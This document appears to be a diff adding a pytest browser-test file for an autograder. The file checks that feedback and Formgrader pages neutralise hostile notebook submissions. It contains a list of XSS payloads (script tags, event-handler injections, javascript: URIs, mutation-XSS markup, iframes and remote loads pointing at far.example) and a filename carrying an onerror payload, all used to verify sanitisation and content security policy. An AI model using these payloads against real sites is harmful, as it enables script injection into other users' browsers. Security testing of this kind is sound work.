@@ -1,0 +1,405 @@
+"""Feedback and Formgrader pages: all that belongs on them is there, and nothing of a submission runs or loads."""
+
+import base64
+import re
+import sys
+from pathlib import Path
+
+import nbformat
+import pytest
+from browser import CHROMIUM_FLAGS, require_chromium
+from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell
+from tiny_class import NAME, RIGHT, TinyClass
+
+from authoring.chapter import SOURCES
+from autograder import pages
+
+RUN = "(top.ran = top.ran || []).push(1)"  # what a script of a submission would leave behind
+FAR = "http://far.example"
+PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="  # one pixel
+SVG = (
+    f'<svg xmlns="http://www.w3.org/2000/svg" width="20" height="10" onload="{RUN}"><script>{RUN}</script>'
+    f'<image href="{FAR}/in.png"/><rect width="20" height="10"/></svg>'
+)
+SVG_URI = "data:image/svg+xml;base64," + base64.b64encode(SVG.encode()).decode()
+
+ATTACKS = [
+    f"<script>{RUN}</script>",
+    f'<script src="{FAR}/a.js"></script>',
+    f'<script type="module">import "{FAR}/m.js"</script>',
+    f"<img src=x onerror='{RUN}'>",
+    f'<img src="{FAR}/pixel.png" srcset="{FAR}/2.png 2x">',
+    f"<svg onload='{RUN}'><script>{RUN}</script><foreignObject><img src=x onerror='{RUN}'></foreignObject></svg>",
+    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
+    f'<math><a xlink:href="javascript:{RUN}">m</a></math>',
+    f'<a class="lure" href="javascript:{RUN}">a</a> <a class="lure" href="java\nscript:{RUN}">b</a>',
+    f'<a class="lure" href="data:text/html,<script>{RUN}</script>">c</a> <a class="lure" href="evil.html">d</a>',
+    f'<iframe srcdoc="<script>{RUN}</script>"></iframe><iframe src="{FAR}/f"></iframe>',
+    f'<iframe src="evil.html"></iframe><iframe src="javascript:{RUN}"></iframe>',
+    f'<object data="{FAR}/o"></object><embed src="{FAR}/e"><video src="{FAR}/v" autoplay></video>',
+    f'<form action="{FAR}/form"><input name="score" autofocus onfocus="{RUN}"><button>Send</button></form>',
+    f'<meta http-equiv="refresh" content="0; url={FAR}/m"><base href="{FAR}/">',
+    f'<link rel="stylesheet" href="{FAR}/l.css"><style>@import "{FAR}/s.css"; .total {{ color: red }}</style>',
+    f'<p style="background: url({FAR}/b.png); position: fixed; inset: 0; color: blue">over everything</p>',
+    f'<details open ontoggle="{RUN}"><summary>open</summary></details>',
+    f'<p id="check-1" class="score tabbable" data-html="true" title="<img src=x onerror={RUN}>">t</p>',
+    f'<body onload="{RUN}" background="{FAR}/body.png">',
+    f"</div></div></section></main></body><script>{RUN}</script>",
+    f"</pre></code></textarea></title></style><img src=x onerror='{RUN}'>",
+]
+HTML = "\n\n".join(ATTACKS)
+
+HONEST = f"""
+A formula $\\frac{{\\partial L}}{{\\partial x}} < 1$ and another:
+
+$$J = \\begin{{pmatrix}} a & b \\\\ c & d \\end{{pmatrix}}$$
+
+| one | two |
+|---|---|
+| 1 | `x < y` |
+
+<details><summary>Unfold</summary>
+
+Folded **text**.
+
+</details>
+
+![from the folder](figures/dot.svg) ![attached](attachment:dot.png) <img alt="inside" src="{SVG_URI}">
+
+[The documentation](https://docs.pytorch.org/)
+"""
+
+SHOW = f"""
+from IPython.display import HTML, SVG, Image, Javascript, Latex, Markdown, display
+
+html, svg, png = {HTML!r}, {SVG!r}, {PNG!r}
+"""
+SHOW_HOSTILE = (
+    SHOW
+    + f"""
+import sys
+
+display(HTML(html), SVG(svg), Markdown(html), Latex(html), Javascript({RUN!r}), Image(url="{FAR}/i.png"))
+display({{"text/html": html, "text/plain": html}}, raw=True, metadata={{"text/html": {{"isolated": True}}}})
+display({{"image/png": '"><script>{RUN}</script>'}}, raw=True, metadata={{"image/png": {{"width": "1 onload={RUN}"}}}})
+display({{"application/vnd.jupyter.widget-view+json": {{"model_id": html}}, "text/plain": html}}, raw=True)
+print(html)
+print(html, file=sys.stderr)
+raise ValueError(html)
+"""
+)
+SHOW_HONEST = (
+    SHOW
+    + """
+import base64
+
+display(Image(data=base64.b64decode(png)), SVG(svg), Markdown("**bold** $x^2$"))
+display(HTML(f"<table><tr><td style='text-align: right'>cell</td></tr></table>"))
+print("plain", "text")
+"""
+)
+
+
+def fill(folder: Path, nb, markdown: str, show: str) -> None:
+    """Put what a student wrote into a notebook of the tiny class, and a picture beside it."""
+    for cell in nb.cells:
+        cell.metadata["autograder"] = {"90.1": {"message": "90.1 forged: passed.", "passed": True, "slip": ""}}
+    (folder / "figures").mkdir()
+    (folder / "figures" / "dot.svg").write_text(SVG)
+    (folder / "evil.html").write_text(f"<script>{RUN}</script>")
+    cell = new_markdown_cell(markdown)
+    cell["attachments"] = {"dot.png": {"image/png": PNG}}
+    nb.cells += [cell, new_raw_cell(markdown), new_code_cell(show)]
+
+
+def poison(path: Path) -> None:
+    """Write into an autograded notebook what grading would not let through, for pages must stand by themselves."""
+    nb = nbformat.read(path, as_version=4)
+    nb.metadata.update(title=HTML, language_info={"name": HTML, "pygments_lexer": HTML})
+    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {"a": HTML}}}
+    output = new_output("execute_result", {"text/html": HTML}, execution_count=1)
+    cell = new_code_cell("1", outputs=[output])
+    cell.metadata.update(tags=[HTML], magics_language=HTML)
+    cell.metadata["nbgrader"] = {"grade_id": f'x"><img src=x onerror="{RUN}">', "grade": True, "points": HTML}
+    cell["execution_count"] = output["execution_count"] = HTML
+    cell["id"] = "<script>"
+    named = new_markdown_cell(f"![x](attachment:{FAR})")
+    named["attachments"] = {HTML: {HTML: HTML}, FAR: {"text/html": HTML}}
+    nb.cells += [cell, named]
+    path.write_text(nbformat.writes(nb))
+
+
+@pytest.fixture(scope="module")
+def tiny(tmp_path_factory):
+    """Anna is honest; mallory's answer is hostile too; ines could not be graded."""
+    root = tmp_path_factory.mktemp("pages")
+    tiny = TinyClass(root / "class")
+    evil = f"def pull_back(x, v):\n    return {HTML!r}"
+    tiny.hand_in("anna", RIGHT, change=lambda nb: fill(tiny.submission("anna"), nb, HONEST, SHOW_HONEST))
+    tiny.hand_in(
+        "mallory",
+        RIGHT | {"answer-1": evil},
+        change=lambda nb: fill(tiny.submission("mallory"), nb, HTML, SHOW_HOSTILE),
+    )
+    tiny.hand_in("ines", RIGHT)
+    notebook = tiny.submission("ines") / f"{NAME}.ipynb"
+    notebook.rename(notebook.with_name("<img src=x onerror=alert(1)>.ipynb"))
+    (root / "nbgrader_config.py").write_text(
+        f"from autograder.settings import configure\n\nconfigure(get_config(), {str(tiny.folder)!r})\n"
+    )
+    assert tiny.grade() == {"anna": "graded", "mallory": "graded", "ines": "could not be graded"}
+    poison(tiny.folder / "autograded" / "mallory" / NAME / f"{NAME}.ipynb")
+    with tiny.api.gradebook as gradebook:
+        for student in ("anna", "mallory"):
+            gradebook.find_submission_notebook(NAME, NAME, student).comments[0].manual_comment = f"See $x^2$.\n\n{HTML}"
+        gradebook.db.commit()
+    result = tiny.api.generate_feedback(NAME)
+    assert result["success"], result
+    return tiny
+
+
+class Look:
+    """A page in Chromium, and all that it did."""
+
+    def __init__(self, page):
+        self.page = page
+        self.requests, self.messages, self.dialogs = [], [], []
+        page.context.on("request", lambda request: self.requests.append(request.url))
+        page.on("console", lambda message: self.messages.append(message.text))
+        page.on("pageerror", lambda error: self.messages.append(str(error)))
+        page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
+
+    def assert_dead(self) -> None:
+        """Fail if anything ran or was loaded, or tried to: what the policy of a page refuses is a message."""
+        self.page.wait_for_load_state("networkidle")
+        assert [frame.evaluate("window.ran") for frame in self.page.frames] == [None] * len(self.page.frames)
+        assert self.dialogs == []
+        assert self.messages == []
+        assert [url for url in self.requests if "far.example" in url or "evil.html" in url] == []
+
+    def texts(self, selector: str) -> list[str]:
+        return self.page.locator(selector).all_inner_texts()
+
+
+@pytest.fixture
+def look():
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=require_chromium(), args=CHROMIUM_FLAGS)
+        yield Look(browser.new_page())
+        browser.close()
+
+
+def feedback(tiny, student: str) -> Path:
+    return tiny.folder / "feedback" / student / NAME / f"{NAME}.html"
+
+
+@pytest.mark.browser
+@pytest.mark.parametrize("student", ["anna", "mallory", "ines"])
+def test_a_feedback_page_is_one_file_in_which_nothing_runs(tiny, look, student):
+    """Nothing but the file is asked for, and the page has nothing that a policy would have to stop."""
+    look.page.goto(feedback(tiny, student).as_uri())
+    look.assert_dead()
+    assert look.requests == [feedback(tiny, student).as_uri()] + [url for url in look.requests if url[:5] == "data:"]
+    assert look.page.locator("script, iframe, object, embed, form, input, svg, base, link").count() == 0
+    for lure in look.page.locator("a:not([href^='#'])").all():
+        assert re.match("https?://", lure.get_attribute("href") or "https://")
+
+
+@pytest.mark.browser
+def test_a_feedback_page_has_what_an_honest_student_wrote(tiny, look):
+    look.page.goto(feedback(tiny, "anna").as_uri())
+    assert_honest(look)
+    assert look.texts("th[scope=row], td:first-child a") == [
+        "90.1 the gradient at x",
+        "90.2 the implied one",
+        "90.3 the gradient at x, negative",
+    ]
+    assert look.texts(".total") == ["5 of 5 points"]
+    assert look.page.get_by_text("See").locator("math").count() == 1
+    look.page.get_by_role("link", name="90.2 the implied one").focus()
+    look.page.keyboard.press("Enter")
+    assert look.page.evaluate("location.hash") == "#check-2"
+    assert look.page.locator("#check-2").bounding_box()["y"] < 400
+    assert look.page.evaluate("[document.documentElement.lang, document.title]") == ["en", f"{NAME}: feedback"]
+    assert look.page.locator("img:not([alt])").count() == 0
+
+
+def assert_honest(look) -> None:
+    """Pictures are drawn, formulas are formulas, what is folded unfolds by keyboard."""
+    pictures = look.page.locator("img[src]")
+    assert pictures.count() == 5
+    for picture in pictures.all():
+        assert picture.evaluate("e => e.decode().then(() => e.naturalWidth)") in (1, 20)
+    assert look.page.locator("math[display=block] mtable mtr").count() == 2
+    assert look.page.locator("math mfrac").count() == 1
+    assert look.page.locator("td", has_text="x < y").count() == 1
+    assert look.page.get_by_role("link", name="The documentation").get_attribute("href") == "https://docs.pytorch.org/"
+    text = look.page.get_by_text("Folded text.")
+    assert not text.is_visible()
+    look.page.locator("summary").focus()
+    look.page.keyboard.press("Space")
+    assert text.is_visible()
+    assert look.page.locator("td", has_text="cell").evaluate("e => getComputedStyle(e).textAlign") == "right"
+    for shown in ("plain text", "90.1 the gradient at x: passed."):
+        assert look.page.get_by_text(shown).count() == 1
+
+
+@pytest.mark.browser
+def test_a_feedback_page_says_per_check_what_was_wrong(tiny, look):
+    look.page.goto(feedback(tiny, "mallory").as_uri())
+    shown = look.page.locator("#check-1 pre").last.inner_text()
+    for part in ("90.1 the gradient at x: not yet.", "Case 1 of 2", "yours    str: '<script>", "torch's  tensor("):
+        assert part in shown
+    assert "not yet" in look.texts("tbody tr")[0]
+    assert look.page.locator("#check-1 h3").inner_text() == "Check: 0 of 2 points"
+    assert "forged" not in look.page.content()
+
+
+@pytest.mark.browser
+def test_a_reason_is_shown_as_text(tiny, look):
+    look.page.goto(feedback(tiny, "ines").as_uri())
+    assert "(found: 90_tiny.record.json, <img src=x onerror=alert(1)>.ipynb)" in look.texts("main")[0]
+
+
+@pytest.mark.browser
+def test_were_the_sanitiser_to_fail_the_policy_of_the_page_would_hold(tiny, look, monkeypatch, tmp_path):
+    """Every script and address gets through to the page, and still nothing runs and nothing is loaded."""
+    monkeypatch.setattr(pages, "clean", lambda source, resources, attachments=None: source)
+    result = tiny.api.generate_feedback(NAME, "mallory", force=True)
+    assert result["success"], result
+    page = feedback(tiny, "mallory").rename(tmp_path / "page.html")
+    monkeypatch.undo()
+    assert tiny.api.generate_feedback(NAME, "mallory", force=True)["success"]
+    assert f"<script>{RUN}</script>" in page.read_text()
+    page.write_text(page.read_text().replace("refresh", ""))  # going elsewhere is what no policy stops
+    failures = []
+    look.page.on("requestfailed", lambda request: failures.append(request.failure))
+    look.page.goto(page.as_uri())
+    look.page.wait_for_load_state("networkidle")
+    assert look.page.evaluate("window.ran") is None
+    assert any("Content Security Policy" in message for message in look.messages)
+    assert set(failures) == {"csp"}
+    assert [url for url in look.requests if url.startswith(FAR)]
+
+
+def submission_page(tiny, lab, student: str) -> Look:
+    """Open a submission, as Formgrader's list of submissions does."""
+    with tiny.api.gradebook as gradebook:
+        number = gradebook.find_submission_notebook(NAME, NAME, student).id
+    lab.goto("lab")  # which logs in
+    look = Look(lab.page)
+    look.page.goto(f"{lab.server.url}/formgrader/submissions/{number}/")
+    look.page.wait_for_function("() => formgrader.loaded && formgrader.comments.loaded && formgrader.grades.loaded")
+    return look
+
+
+@pytest.fixture
+def open_formgrader(tiny, open_lab):
+    def start():
+        command = [sys.executable, "-m", "autograder", "--class", str(tiny.folder), "formgrader"]
+        return open_lab(tiny.folder.parent, command=command)
+
+    return start
+
+
+@pytest.fixture
+def formgrader(open_formgrader):
+    return open_formgrader()
+
+
+@pytest.mark.browser
+def test_formgrader_shows_a_submission_in_which_nothing_runs(tiny, formgrader):
+    look = submission_page(tiny, formgrader, "mallory")
+    look.assert_dead()
+    assert [url for url in look.requests if not url.startswith((formgrader.server.url, "data:"))] == []
+    assert look.page.locator("#notebook script, iframe, object, embed, form, #notebook svg, base").count() == 0
+    assert look.page.locator("#check-1").count() == 1
+    assert look.page.locator("#notebook a[href], #notebook [class*=lure]").count() == 0
+
+
+@pytest.mark.browser
+def test_formgrader_shows_an_honest_submission_and_grades_it_by_hand(tiny, formgrader):
+    """nbgrader's own scripts run under the policy: scores are there, and a new score and comment are saved."""
+    look = submission_page(tiny, formgrader, "anna")
+    look.assert_dead()
+    assert_honest(look)
+    score = look.page.locator("#check-2")
+    assert score.get_attribute("placeholder") == "3"
+    score.fill("2.5")
+    with look.page.expect_response(lambda reply: "/api/grade/" in reply.url and reply.request.method == "PUT"):
+        score.press("Escape")
+    comment = look.page.locator("#answer-2-comment")
+    comment.fill("Well done.")
+    with look.page.expect_response(lambda reply: "/api/comment/" in reply.url and reply.request.method == "PUT"):
+        comment.press("Escape")
+    look.page.locator(".glyphicon-eye-open").click()
+    assert look.page.locator("a.name-shown").inner_text().strip() == "anna"
+    with tiny.api.gradebook as gradebook:
+        found = gradebook.find_submission_notebook(NAME, NAME, "anna")
+        assert {grade.name: grade.manual_score for grade in found.grades}["check-2"] == 2.5
+        assert {comment.name: comment.manual_comment for comment in found.comments}["answer-2"] == "Well done."
+
+
+@pytest.mark.browser
+def test_were_the_sanitiser_to_fail_the_policy_of_formgrader_would_hold(tiny, open_formgrader):
+    """Scripts of a submission get through to the page, and nbgrader's are still the only ones that run."""
+    config = tiny.folder.parent / "nbgrader_config.py"
+    text = config.read_text()
+    leak = "lambda source, resources, attachments=None: source.replace('refresh', '').replace('evil.html', '')"
+    config.write_text(f"{text}\nfrom autograder import pages\n\npages.clean = {leak}\n")
+    try:
+        look = submission_page(tiny, open_formgrader(), "mallory")
+    finally:
+        config.write_text(text)
+    assert f"<script>{RUN}</script>" in look.page.content()
+    assert look.page.evaluate("window.ran") is None
+    assert any("Content Security Policy" in message for message in look.messages)
+
+
+@pytest.mark.browser
+def test_jupyterlab_shows_an_autograded_notebook_in_which_nothing_runs(tiny, formgrader):
+    """Formgrader's link to the live notebook leads there; no notebook of a submission is trusted."""
+    formgrader.goto(f"lab/tree/class/autograded/mallory/{NAME}/{NAME}.ipynb")
+    formgrader.page.get_by_text("over everything").first.wait_for(state="attached")
+    assert formgrader.page.evaluate("top.ran") is None
+
+
+def test_a_page_takes_pictures_from_the_submission_alone(tiny):
+    """Neither a path upwards nor an absolute one reaches another student's picture."""
+    other = tiny.folder / "autograded" / "anna" / NAME / "figures" / "dot.svg"
+    resources = {"metadata": {"path": str(tiny.folder / "autograded" / "mallory" / NAME)}, "autograder": {"room": 9999}}
+    assert "src" in pages.clean('<img src="figures/dot.svg">', resources)
+    for address in (f"../../anna/{NAME}/figures/dot.svg", str(other), other.as_uri(), "evil.html", "%00.svg", "."):
+        assert pages.clean(f'<img src="{address}">', resources) == "<img>"
+
+
+def test_a_page_has_room_for_so_many_pictures(tiny):
+    """A picture that is referred to without end does not make a page without end."""
+    resources = {"metadata": {"path": str(tiny.folder / "autograded" / "anna" / NAME)}, "autograder": {"room": 2000}}
+    page = pages.clean('<img src="figures/dot.svg">' * 1000, resources)
+    assert 0 < len(page.replace("<img>", "")) < 2500
+
+
+def test_every_formula_of_the_course_becomes_mathml(monkeypatch):
+    found = {}
+    real = pages.mathematics
+    monkeypatch.setattr(pages, "mathematics", lambda source, display: found.setdefault(source, real(source, display)))
+    resources = {"metadata": {"path": "."}, "autograder": {"room": 0}}
+    for path in SOURCES.glob("*/*.ipynb"):
+        for cell in nbformat.read(path, as_version=4).cells:
+            if cell.cell_type == "markdown":
+                pages._markdown(cell.source, {}, resources)
+    assert len(found) > 50
+    assert {source: made for source, made in found.items() if not made.startswith("<math")} == {}
+
+
+@pytest.mark.parametrize(
+    "source", ["{" * 10**6, r"\left(" * 10**5, r"\sqrt" * 160 + "x", r"\def\a{{\a}}\a", r"\unknown", "a & b", "<b>"]
+)
+def test_a_formula_of_any_kind_leaves_a_page(source):
+    """Mathematics that cannot be converted is shown as it was written, and ends nothing."""
+    made = pages.mathematics(source, display=True)
+    assert made.startswith(("<code>", "<math"))
+    assert "<b>" not in made
